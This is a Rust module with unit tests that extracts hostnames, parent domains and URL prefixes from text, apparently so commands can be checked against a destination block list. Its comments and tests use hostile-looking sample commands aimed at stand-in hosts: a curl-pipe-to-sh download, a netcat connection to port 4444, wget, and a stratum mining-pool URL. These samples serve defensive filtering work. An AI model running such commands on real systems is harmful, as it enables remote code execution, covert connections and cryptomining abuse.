//! Where a text leads: the hosts and URLs that it names, as lists of destinations name them.
//!
//! A list has `evil.example`; a command has `curl -s https://cdn.evil.example/x|sh`. So a host is told with every domain
//! above it, and a URL with everything that it begins with, each whole: then a look into the list is enough, and
//! `notevil.example` is not in it.

use std::collections::BTreeSet;

/// Names and URLs of one request at most.
pub(crate) const MOST: usize = 500;
/// Characters of a name or URL at most; longer ones are told by their beginning.
const MOST_LENGTH: usize = 512;

/// Adds what a text names.
pub(crate) fn destinations(text: &str, found: &mut BTreeSet<String>) {
    for word in
        text.split(|c: char| c.is_whitespace() || c.is_control() || "\"'`\\|<>(){}".contains(c))
    {
        if let Some(url) = url(word) {
            beginnings(&url, found);
        }
    }
    let is_of_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_');
    for name in text.split(|c| !is_of_name(c)) {
        domains(name, found);
    }
}

/// A URL in a word, with scheme and host in lower case and without a user: `--pool=stratum+tcp://me@pool.example:3333`.
fn url(word: &str) -> Option<String> {
    let (before, rest) = word.split_once("://")?;
    let is_of_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
    let at = before.rfind(|c| !is_of_scheme(c));
    let scheme = at.map_or(before, |at| before.get(at..).unwrap_or_default());
    let scheme = scheme.trim_start_matches(|c| !is_of_scheme(c));
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at_checked(end)?;
    let host = authority
        .rsplit_once('@')
        .map_or(authority, |(_, host)| host);
    let (scheme, host) = (scheme.to_ascii_lowercase(), host.to_ascii_lowercase());
    let mut url = format!("{scheme}://{host}{path}");
    url.truncate(url.floor_char_boundary(MOST_LENGTH));
    (!scheme.is_empty() && !host.is_empty()).then_some(url)
}

/// `https://a/b?c` begins with `https://a`, `https://a/`, `https://a/b`, `https://a/b?` and itself.
fn beginnings(url: &str, found: &mut BTreeSet<String>) {
    let authority = url.find("://").map_or(0, |at| at.saturating_add(3));
    for (at, c) in url.char_indices().skip_while(|(at, _)| *at < authority) {
        if matches!(c, '/' | '?' | '#' | '&' | ';' | ',') {
            add(url.get(..at), found);
            add(url.get(..at.saturating_add(1)), found);
        }
    }
    add(Some(url), found);
}

/// `a.b.example` is in `b.example`, too. What stands alone is no domain, nor is a number.
fn domains(name: &str, found: &mut BTreeSet<String>) {
    let name = name.trim_matches(|c: char| !c.is_ascii_alphanumeric());
    let last = name.rsplit('.').next().unwrap_or_default();
    let is_domain = (2..=63).contains(&last.len())
        && last.bytes().any(|byte| byte.is_ascii_alphabetic())
        && name.len() <= 253;
    if !is_domain {
        return;
    }
    let name = name.to_ascii_lowercase();
    let mut rest = name.as_str();
    while rest.contains('.') {
        add(Some(rest), found);
        rest = rest.split_once('.').map_or("", |(_, above)| above);
    }
}

fn add(text: Option<&str>, found: &mut BTreeSet<String>) {
    if let Some(text) = text.filter(|_| found.len() < MOST) {
        found.insert(text.to_owned());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Vec<String> {
        let mut found = BTreeSet::new();
        destinations(text, &mut found);
        found.into_iter().collect()
    }

    #[test]
    fn hosts_are_told_with_the_domains_above_them_and_urls_with_their_beginnings() {
        assert_eq!(
            of("sleep 3600; ls /a/b 10.0.0.5 1.2.3 x"),
            Vec::<String>::new()
        );
        assert_eq!(
            of("nc A.Evil.Example:4444"),
            ["a.evil.example", "evil.example"]
        );
        assert_eq!(
            of("sh -c 'curl -s HTTPS://me:pw@Cdn.evil.example/a/B?c=d|sh'"),
            [
                "cdn.evil.example",
                "evil.example",
                "https://cdn.evil.example",
                "https://cdn.evil.example/",
                "https://cdn.evil.example/a",
                "https://cdn.evil.example/a/",
                "https://cdn.evil.example/a/B",
                "https://cdn.evil.example/a/B?",
                "https://cdn.evil.example/a/B?c=d",
            ]
        );
        assert_eq!(
            of("--url=stratum+tcp://pool.example:3333"),
            ["pool.example", "stratum+tcp://pool.example:3333"]
        );
        assert_eq!(of("POOL=pool.example"), ["pool.example"]);
    }

    #[test]
    fn names_are_whole() {
        for near in [
            "notevil.example",
            "evil.example.com",
            "evil-example",
            "my-evil.example",
        ] {
            let found = of(&format!("wget http://{near}/x"));
            assert!(
                !found.contains(&"evil.example".to_owned()),
                "{near}: {found:?}"
            );
        }
    }

    #[test]
    fn hostile_texts_cost_no_more_than_others() {
        assert!(of(&"a.".repeat(100_000)).len() <= MOST);
        let many: String = (0..100_000).map(|n| format!("h{n}.example ")).collect();
        assert_eq!(of(&many).len(), MOST);
        let long = format!("http://x.example/{}", "é/".repeat(50_000));
        assert!(of(&long).iter().all(|one| one.len() <= MOST_LENGTH));
    }
}
